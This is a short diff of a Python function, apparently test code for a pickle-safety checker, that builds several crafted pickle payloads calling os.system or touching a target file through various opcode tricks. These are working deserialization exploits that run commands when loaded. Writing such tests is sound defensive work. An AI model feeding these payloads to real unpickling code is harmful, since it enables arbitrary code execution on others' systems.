@@ -45,7 +45,7 @@ def payloads(target):
         obj=f"(cos\nsystem\nS'{command}'\no.".encode(),
         newobj=b'\x80\x02cos\nsystem\n' + pickle.dumps(command)[2:-1] + b'\x85\x81.',
         built=b'\x80\x04' + pickle.dumps(touch(target))[2:-1] + b'}b.',
-        dotted=by_name('pathlib', 'os.system', command),
+        dotted=by_name('shutil', 'os.system', command),
         imported=by_name('os', 'system', command),
         popped=pickle.dumps(touch(target))[:-1] + b'0N.',
         in_a_key=pickle.dumps({(1, (touch(target),)): 1}),
